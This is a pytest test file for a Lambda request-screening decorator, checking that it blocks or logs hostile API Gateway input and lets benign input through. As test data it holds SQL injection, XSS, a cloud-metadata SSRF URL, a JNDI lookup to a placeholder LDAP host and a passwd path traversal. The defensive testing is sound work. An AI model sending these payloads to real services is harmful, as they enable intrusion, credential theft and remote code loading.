"""protect_lambda with API Gateway events in AWS's documented shapes: REST API (payload format 1.0)
and HTTP API (2.0)."""

from __future__ import annotations

import base64
import json
from typing import Any

from cloudward.appsec import protect_lambda
from cloudward.core.finding import Finding


def rest_event(query: dict[str, str], body: str | None = None, *, b64: bool = False) -> dict[str, Any]:
    """payload format 1.0, as in the API Gateway developer guide ("Input format of a Lambda function
    for proxy integration")."""
    return {
        "resource": "/search",
        "path": "/search",
        "httpMethod": "POST" if body else "GET",
        "headers": {
            "Host": "abc123.execute-api.us-east-1.amazonaws.com",
            "User-Agent": "curl/8.5.0",
            "Content-Type": "application/x-www-form-urlencoded",
        },
        "multiValueHeaders": {
            "Host": ["abc123.execute-api.us-east-1.amazonaws.com"],
            "User-Agent": ["curl/8.5.0"],
            "Content-Type": ["application/x-www-form-urlencoded"],
        },
        "queryStringParameters": query or None,
        "multiValueQueryStringParameters": {k: [v] for k, v in query.items()} or None,
        "pathParameters": None,
        "stageVariables": None,
        "requestContext": {
            "accountId": "123456789012",
            "apiId": "abc123",
            "httpMethod": "GET",
            "identity": {"sourceIp": "198.51.100.7", "userAgent": "curl/8.5.0"},
            "path": "/prod/search",
            "protocol": "HTTP/1.1",
            "requestId": "c6af9ac6-7b61-11e6-9a41-93e8deadbeef",
            "requestTimeEpoch": 1428582896000,
            "resourceId": "123456",
            "resourcePath": "/search",
            "stage": "prod",
        },
        "body": (base64.b64encode(body.encode()).decode() if b64 else body) if body is not None else None,
        "isBase64Encoded": b64,
    }


def http_event(raw_query: str, cookies: list[str] | None = None, body: str | None = None) -> dict[str, Any]:
    """payload format 2.0 (HTTP API)."""
    return {
        "version": "2.0",
        "routeKey": "$default",
        "rawPath": "/items",
        "rawQueryString": raw_query,
        "cookies": cookies or [],
        "headers": {
            "host": "abc123.execute-api.us-east-1.amazonaws.com",
            "user-agent": "curl/8.5.0",
            "content-type": "application/json",
        },
        "queryStringParameters": {},
        "requestContext": {
            "accountId": "123456789012",
            "apiId": "abc123",
            "domainName": "abc123.execute-api.us-east-1.amazonaws.com",
            "domainPrefix": "abc123",
            "http": {
                "method": "POST" if body else "GET",
                "path": "/items",
                "protocol": "HTTP/1.1",
                "sourceIp": "198.51.100.7",
                "userAgent": "curl/8.5.0",
            },
            "requestId": "JKJaXmPLvHcESHA=",
            "routeKey": "$default",
            "stage": "$default",
            "time": "10/Mar/2020:05:16:23 +0000",
            "timeEpoch": 1583817383220,
        },
        "body": body,
        "pathParameters": {},
        "isBase64Encoded": False,
        "stageVariables": {},
    }


def make(mode: str) -> tuple[Any, list[str], list[Finding]]:
    calls: list[str] = []
    recorded: list[Finding] = []

    @protect_lambda(mode=mode, sink=recorded.extend)
    def handler(event: dict[str, Any], context: object) -> dict[str, Any]:
        calls.append(event.get("rawPath") or event.get("path"))
        return {"statusCode": 200, "body": "ok"}

    return handler, calls, recorded


def test_rest_api_block_and_pass() -> None:
    handler, calls, recorded = make("block")
    answer = handler(rest_event({"q": "1' OR '1'='1"}), None)
    assert answer["statusCode"] == 403 and calls == []
    body = json.loads(answer["body"])
    assert body["incident_id"] == answer["headers"]["x-cloudward-incident"] and set(body) == {"error", "incident_id"}
    assert [f.rule_id for f in recorded] == ["appsec.sqli"] and recorded[0].location["location"] == "args:q"
    assert recorded[0].location["client"] == "198.51.100.7"
    assert handler(rest_event({"q": "O'Reilly"}), None) == {"statusCode": 200, "body": "ok"}
    assert calls == ["/search"]


def test_rest_api_base64_body() -> None:
    handler, _calls, recorded = make("block")
    answer = handler(rest_event({}, "comment=<script>alert(1)</script>", b64=True), None)
    assert answer["statusCode"] == 403 and recorded[0].location["location"] == "form:comment"


def test_http_api_v2_cookies_and_json() -> None:
    handler, calls, recorded = make("block")
    assert handler(http_event("url=http%3A%2F%2F169.254.169.254%2Flatest%2F"), None)["statusCode"] == 403
    assert (
        handler(http_event("", cookies=["session=abc", "pref=${jndi:ldap://e.example/a}"]), None)["statusCode"] == 403
    )
    assert handler(http_event("", body='{"path": "../../etc/passwd"}'), None)["statusCode"] == 403
    assert calls == []
    assert {(f.rule_id, f.location["location"]) for f in recorded} >= {
        ("appsec.ssrf_metadata", "args:url"),
        ("appsec.jndi", "cookie:pref"),
        ("appsec.lfi", "json:path"),
    }
    assert handler(http_event("page=2&sort=price", body='{"name": "select a book"}'), None)["statusCode"] == 200
    assert calls == ["/items"]


def test_monitor_mode_records_and_passes() -> None:
    handler, calls, recorded = make("monitor")
    assert handler(http_event("q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"), None)["statusCode"] == 200
    assert calls == ["/items"] and recorded[0].evidence["action"] == "monitored"


def test_other_events_are_untouched() -> None:
    handler, _calls, recorded = make("block")
    sqs = {"Records": [{"eventSource": "aws:sqs", "body": "1' OR '1'='1"}]}
    assert handler(sqs, None)["statusCode"] == 200 and recorded == []


def test_plain_decorator_form() -> None:
    @protect_lambda
    def handler(event: dict[str, Any], context: object) -> str:
        return "ok"

    assert handler(rest_event({"q": "1' OR '1'='1"}), None) == "ok"  # default mode: monitor
